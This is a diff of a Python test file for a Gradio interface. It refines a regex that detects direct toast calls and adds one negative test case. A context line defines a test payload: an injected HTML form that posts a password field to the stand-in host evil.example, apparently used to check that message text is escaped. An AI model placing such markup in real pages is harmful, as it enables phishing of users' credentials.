@@ -11,8 +11,8 @@ from tests.live_server import ROOT
 from ui import messages
 from ui.text import escape_md
 
-# gr.Info(…), gr.Warning(…), gr.Error(…), gradio.Error, or the names imported from gradio
-DIRECT_TOAST = re.compile(r"\b(?:gr|gradio)\s*\.\s*(?:Info|Warning|Error)\b"
+# calls of gr.Info, gr.Warning, gr.Error (or gradio.…), or those names imported from gradio
+DIRECT_TOAST = re.compile(r"\b(?:gr|gradio)\s*\.\s*(?:Info|Warning|Error)\s*\("
                           r"|from\s+gradio\s+import\s+[^\n]*\b(?:Info|Warning|Error)\b")
 PAYLOAD = "<form action='http://evil.example/'><input type=password name=p></form> & it's"
 
@@ -34,6 +34,7 @@ def test_the_check_finds_a_direct_toast(tmp_path):
                  'from gradio import Error, Info'):
         assert DIRECT_TOAST.search(line), line
     assert not DIRECT_TOAST.search("raise messages.error(err) from None")
+    assert not DIRECT_TOAST.search("def refusal_error(text: str) -> gr.Error:")  # a type
 
 
 def test_toast_text_is_escaped_exactly_once():
